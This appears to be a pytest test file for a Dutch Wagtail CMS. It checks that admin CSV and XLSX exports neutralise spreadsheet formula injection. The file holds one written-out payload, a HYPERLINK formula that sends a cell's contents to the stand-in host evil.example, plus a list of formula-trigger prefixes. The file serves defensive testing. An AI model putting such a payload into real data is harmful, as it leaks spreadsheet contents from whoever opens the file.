"""Admin exports: no spreadsheet formulas from visitors' text in CSV."""

import csv
import io

import pytest
from django.urls import get_resolver
from openpyxl import load_workbook
from wagtail.admin.viewsets import viewsets
from wagtail.admin.viewsets.base import ViewSet

from cms.core.exports import SafeCsvExportMixin, neutralise
from cms.offerings.models import OfferingRequest
from tests.factories import UserFactory

ATTACK = '=HYPERLINK("http://evil.example/?d="&A2,"Klik")'


@pytest.mark.parametrize("value, expected", [
    (ATTACK, "'" + ATTACK),
    ("+31 30 284 32 00", "'+31 30 284 32 00"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("Gewone tekst = prima", "Gewone tekst = prima"),
    ("", ""),
    (-5, -5),
    (None, None),
])
def test_neutralise(value, expected):
    assert neutralise(value) == expected


@pytest.fixture
def admin_client(client, db):
    client.force_login(UserFactory(is_staff=True, is_superuser=True))
    return client


@pytest.fixture
def hostile_request(db):
    return OfferingRequest.objects.create(
        offering_title="Werkplan", name="@Piet", email="piet@example.nl",
        organisation="-Zorg", council="+Raad", phone="+31 6 12345678",
        preferred_period="\tna de zomer", question=ATTACK,
    )


def test_offering_request_csv_export_has_no_formulas(admin_client, hostile_request):
    response = admin_client.get("/admin/offering-requests/?export=csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert len(rows) == 1
    cells = list(rows[0].values())
    assert "'" + ATTACK in cells and "'@Piet" in cells and "'-Zorg" in cells
    assert "'+Raad" in cells and "'\tna de zomer" in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_offering_request_xlsx_export_keeps_the_text_as_text(admin_client, hostile_request):
    response = admin_client.get("/admin/offering-requests/?export=xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    row = list(next(sheet.iter_rows(min_row=2, max_row=2)))
    question = next(cell for cell in row if "HYPERLINK" in str(cell.value))
    assert question.value == ATTACK and question.data_type == "s"


def test_every_admin_list_with_an_export_uses_the_safe_base(db):
    assert get_resolver().url_patterns  # registers the admin viewsets like a first request
    exporting = [viewset for viewset in viewsets.viewsets
                 if getattr(viewset, "list_export", None) not in (None, [], ViewSet.UNDEFINED)]
    assert {type(viewset).__name__ for viewset in exporting} >= {
        "OfferingRequestViewSet", "CommentViewSet"}
    for viewset in exporting:
        assert issubclass(viewset.index_view_class, SafeCsvExportMixin), type(viewset)
